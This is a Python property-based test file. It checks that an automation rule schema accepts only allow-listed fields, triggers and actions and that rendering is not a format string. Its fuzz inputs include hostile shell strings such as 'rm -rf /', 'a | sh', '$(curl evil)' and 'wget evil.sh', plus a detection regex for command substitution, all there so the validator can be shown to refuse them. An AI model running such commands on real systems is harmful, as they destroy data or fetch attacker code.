"""The rule schema accepts only allow-listed shapes, whatever JSON it is given (F8)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from app.events.types import EventType
from app.rules.matching import EventFacts, all_match, evaluate
from app.rules.schemas import (
    ACTION_TYPES,
    MAX_ACTIONS,
    MAX_CONDITIONS,
    TRIGGER_FIELDS,
    Condition,
    Op,
    RuleCreate,
    TriggerEvent,
    allowed_fields,
    render,
)

FORBIDDEN_TRIGGERS = {
    EventType.RULE_CREATED,
    EventType.RULE_UPDATED,
    EventType.RULE_APPROVED,
    EventType.RULE_FIRED,
    EventType.RULE_BLOCKED,
    EventType.SECURITY_ALERT,
    EventType.NOTIFICATION_CREATED,
}
ALLOWED_KEYS = {
    "rule": {"name", "on", "when", "then", "max_firings_per_hour", "enabled"},
    "condition": {"field", "op", "value"},
    "notify": {"type", "category", "severity", "title", "body"},
    "create_task": {"type", "agent_id", "title", "description", "priority"},
    "set_task_status": {"type", "status"},
    "open_escalation": {"type", "kind", "reason"},
}
SHELLISH = re.compile(r"`|\$\(|\$\{")

json_leaf = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=40)
)
any_json = st.recursive(
    json_leaf,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4)
    ),
    max_leaves=20,
)
words = st.sampled_from(
    [
        "x",
        "high",
        "{subject_id}",
        "{type}",
        "{0}",
        "{payload}",
        "$(id)",
        "`id`",
        "a | sh",
        "rm -rf /",
        "Task {subject_id} is {type}",
        "line\nbreak",
        "\x00",
        "ok",
        "a" * 250,
    ]
)
text_ish = words | st.text(max_size=30)
field_names = st.sampled_from(
    ["subject_id", "actor", "payload.priority", "payload.agent_id", "payload.x", "payload.a.b", "x"]
)
conditions = st.fixed_dictionaries(
    {
        "field": field_names,
        "op": st.sampled_from([*(o.value for o in Op), "regex", "eval"]),
        "value": json_leaf | st.lists(json_leaf, max_size=3) | words,
    },
    optional={"extra": any_json},
)
allowed_actions = st.one_of(
    st.fixed_dictionaries(
        {
            "type": st.just("notify"),
            "category": st.sampled_from(["task", "security", "rule", "nope"]),
            "title": text_ish,
        },
        optional={"body": text_ish, "severity": st.sampled_from(["info", "loud"]), "x": any_json},
    ),
    st.fixed_dictionaries(
        {
            "type": st.just("create_task"),
            "agent_id": st.integers(min_value=-2, max_value=2**60) | text_ish,
            "title": text_ish,
        },
        optional={"priority": st.sampled_from(["low", "urgent", "max"]), "command": text_ish},
    ),
    st.fixed_dictionaries(
        {
            "type": st.just("set_task_status"),
            "status": st.sampled_from(["queued", "cancelled", "blocked", "succeeded", "running"]),
        },
        optional={"task_id": st.integers()},
    ),
    st.fixed_dictionaries(
        {
            "type": st.just("open_escalation"),
            "kind": st.sampled_from(["look", "Bad Kind", "x" * 50]),
            "reason": text_ish,
        }
    ),
)
actions = st.one_of(
    allowed_actions,
    st.fixed_dictionaries(
        {"type": st.sampled_from(["shell", "exec", "http", "webhook", "python"])},
        optional={"command": text_ish, "url": text_ish},
    ),
    any_json,
)
rule_shaped = st.fixed_dictionaries(
    {
        "name": st.sampled_from(["rule one", "r-2"]) | text_ish,
        "on": st.sampled_from([e.value for e in TriggerEvent])
        | st.sampled_from([e.value for e in EventType] + ["task.*", ""]),
        "then": st.lists(allowed_actions, min_size=1, max_size=2) | st.lists(actions, max_size=7),
    },
    optional={
        "when": st.lists(conditions, max_size=12),
        "max_firings_per_hour": st.integers(min_value=-5, max_value=500),
        "enabled": json_leaf,
        "script": any_json,
    },
)

# Closer to valid: every part is allow-listed in shape, only the values vary.
nearly_valid = st.fixed_dictionaries(
    {
        "name": st.sampled_from(["rule one", "r-2"]),
        "on": st.sampled_from([e.value for e in TriggerEvent]),
        "when": st.lists(
            st.fixed_dictionaries(
                {
                    "field": st.sampled_from(["subject_id", "actor"]),
                    "op": st.sampled_from([o.value for o in Op]),
                    "value": json_leaf | st.lists(json_leaf, min_size=1, max_size=3) | words,
                }
            ),
            max_size=3,
        ),
        "then": st.lists(allowed_actions, min_size=1, max_size=2),
    }
)


def assert_within_allow_lists(rule: RuleCreate) -> None:
    dumped: dict[str, Any] = rule.model_dump(mode="json")
    assert set(dumped) <= ALLOWED_KEYS["rule"]
    event = EventType(dumped["on"])
    assert event in TRIGGER_FIELDS and event not in FORBIDDEN_TRIGGERS
    assert len(dumped["when"]) <= MAX_CONDITIONS
    assert 1 <= len(dumped["then"]) <= MAX_ACTIONS
    for condition in dumped["when"]:
        assert set(condition) <= ALLOWED_KEYS["condition"]
        assert condition["field"] in allowed_fields(event)
        assert condition["op"] in {o.value for o in Op}
        values = (
            condition["value"] if isinstance(condition["value"], list) else [condition["value"]]
        )
        for value in values:
            assert isinstance(value, bool | int | float | str)
            if isinstance(value, str):
                assert len(value) <= 200 and not SHELLISH.search(value)
    for action in dumped["then"]:
        assert action["type"] in ACTION_TYPES
        assert set(action) <= ALLOWED_KEYS[action["type"]]
        for key, value in action.items():
            if isinstance(value, str):
                assert not SHELLISH.search(value), (key, value)
                rest = re.sub(r"\{(subject_id|type)\}", "", value)
                assert "{" not in rest and "}" not in rest


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(any_json)
def test_arbitrary_json_is_refused_or_within_the_allow_lists(data: Any) -> None:
    try:
        rule = RuleCreate.model_validate(data)
    except ValidationError:
        return
    assert_within_allow_lists(rule)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(rule_shaped)
def test_rule_shaped_json_is_refused_or_within_the_allow_lists(data: dict[str, Any]) -> None:
    try:
        rule = RuleCreate.model_validate(data)
    except ValidationError:
        return
    assert_within_allow_lists(rule)


@settings(max_examples=600, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(nearly_valid)
def test_nearly_valid_rules_are_refused_or_within_the_allow_lists(data: dict[str, Any]) -> None:
    try:
        rule = RuleCreate.model_validate(data)
    except ValidationError:
        return
    assert_within_allow_lists(rule)


def test_the_trigger_allow_list_excludes_loops_and_alarms() -> None:
    assert {EventType(e.value) for e in TriggerEvent} == set(TRIGGER_FIELDS)
    assert not FORBIDDEN_TRIGGERS & set(TRIGGER_FIELDS)
    assert not any(e.value.startswith("rule.") for e in TRIGGER_FIELDS)


@pytest.mark.parametrize(
    "action",
    [
        {"type": "shell", "command": "id"},
        {"type": "notify", "category": "task", "title": "x", "command": "id"},
        {"type": "create_task", "agent_id": 1, "title": "x", "needs_shell": True},
        {"type": "create_task", "agent_id": 1, "title": "x", "required_tools": ["shell"]},
        {"type": "set_task_status", "status": "queued", "task_id": 9},
        {"type": "open_escalation", "kind": "x", "reason": "y", "notify": "webhook"},
        {"type": "notify", "category": "task", "title": "$(curl evil)"},
        {"type": "notify", "category": "task", "title": "{subject_id.__class__}"},
        {"type": "create_task", "agent_id": 1, "title": "x", "description": "wget evil.sh"},
    ],
)
def test_actions_outside_the_allow_list_are_refused(action: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        RuleCreate.model_validate({"name": "r", "on": "task.created", "then": [action]})


@given(st.text(max_size=60), st.integers(min_value=0, max_value=10**9))
def test_render_substitutes_only_the_two_placeholders(text: str, subject: int) -> None:
    rendered = render(text, "task.created", subject)
    expected = text.replace("{subject_id}", "\x00").replace("{type}", "\x01")
    expected = expected.replace("\x00", str(subject)).replace("\x01", "task.created")
    if "\x00" not in text and "\x01" not in text:
        assert rendered == expected


def test_render_is_not_a_format_string() -> None:
    assert render("{0} {subject_id!r} {type.__class__}", "t", 5) == (
        "{0} {subject_id!r} {type.__class__}"
    )


def facts(payload: dict[str, Any], subject_id: int | None = 1) -> EventFacts:
    return EventFacts(
        type="task.created", subject_id=subject_id, actor="user:a", rule_depth=0, payload=payload
    )


def cond(field: str, op: str, value: Any) -> Condition:
    return Condition.model_validate({"field": field, "op": op, "value": value})


@pytest.mark.parametrize(
    ("condition", "payload", "expected"),
    [
        (cond("payload.agent_id", "eq", 1), {"agent_id": 1}, True),
        (cond("payload.agent_id", "eq", 1), {"agent_id": True}, False),
        (cond("payload.agent_id", "eq", 1), {"agent_id": "1"}, False),
        (cond("payload.agent_id", "ne", 1), {}, False),
        (cond("payload.agent_id", "not_in", [1, 2]), {}, False),
        (cond("payload.agent_id", "not_in", [1, 2]), {"agent_id": 3}, True),
        (cond("payload.agent_id", "gt", 2), {"agent_id": 3}, True),
        (cond("payload.agent_id", "gt", 2), {"agent_id": "9"}, False),
        (cond("payload.agent_id", "lt", 2.5), {"agent_id": 2}, True),
        (cond("payload.title", "contains", "db"), {"title": "fix the db"}, True),
        (cond("payload.title", "contains", "db"), {"title": ["db"]}, False),
        (cond("payload.priority", "in", ["high", "urgent"]), {"priority": "high"}, True),
        (cond("payload.priority", "eq", "high"), {"priority": {"eq": "high"}}, False),
    ],
)
def test_conditions_compare_strictly(
    condition: Condition, payload: dict[str, Any], expected: bool
) -> None:
    assert evaluate([condition], facts(payload))[0][1] is expected


def test_subject_id_and_actor_conditions() -> None:
    assert all_match([cond("subject_id", "eq", 4)], facts({}, 4))
    assert not all_match([cond("subject_id", "ne", 4)], facts({}, None))
    assert all_match([cond("actor", "contains", "user:")], facts({}))
    assert all_match([], facts({}))
